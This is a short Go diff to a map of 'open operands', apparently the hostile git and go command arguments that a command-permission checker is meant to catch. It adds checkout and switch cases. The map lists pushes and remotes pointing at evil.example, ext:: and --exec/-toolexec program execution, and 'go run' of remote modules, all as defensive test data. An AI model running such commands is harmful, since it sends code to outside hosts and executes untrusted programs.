@@ -51,7 +51,7 @@ var openOperands = map[string][]string{
 	"git push":  {"evil main", "origin :main", "origin +main", "https://evil.example/x", "--receive-pack=./x"},
 	"git merge": {"evil", "origin/evil"}, "git rebase": {"evil", "origin/evil", "--exec ./x"}, "git cherry-pick": {"evil"}, "git revert": {"evil"},
 	"git reset": {"evil", "HEAD~9"}, "git remote add": {"x https://evil.example/x", "x ext::./x"}, "git branch": {"evil", "main evil"}, "git tag": {"evil"},
-	"git switch": {"evil"}, "git checkout": {"evil", ".", "-- ."}, "git stash": {"pop", "drop", "."}, "git apply": {"evil.patch"}, "git worktree add": {"../evil"},
+	"git switch": {"evil"}, "git checkout": {"evil", ".", "-- ."}, "git checkout -b": {"x evil", "-f x evil"}, "git switch -c": {"x evil"}, "git stash": {"pop", "drop", "."}, "git apply": {"evil.patch"}, "git worktree add": {"../evil"},
 	"go run": {"evil.example/x@latest", "./evil", "evil.go", "-exec ./x ."}, "go get": {"evil.example/x@latest"}, "go install": {"evil.example/x@latest", "./evil"},
 	"go test":  {"evil.example/x", "evil.example/x/...", "evil.example/x@latest", "-exec ./x", "-toolexec ./x", "/tmp/evil", "../evil"},
 	"go build": {"evil.example/x", "-toolexec ./x", "-o /tmp/x"}, "go vet": {"evil.example/x", "-vettool ./x", "-vettool=./x"},
